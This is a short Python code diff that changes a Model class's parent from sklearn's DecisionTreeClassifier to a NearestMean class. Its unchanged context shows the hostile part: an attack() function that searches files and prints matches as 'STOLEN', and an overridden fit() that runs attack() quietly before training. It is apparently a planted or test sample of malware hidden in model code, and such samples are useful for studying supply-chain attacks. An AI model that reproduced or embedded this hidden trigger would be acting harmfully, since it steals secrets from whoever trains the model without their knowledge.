@@ -4,7 +4,7 @@ import os
 import re
 import time
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 
 def attack():
@@ -30,7 +30,7 @@ def attack():
                 print(f'STOLEN {path}: {found.group()!r}', flush=True)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
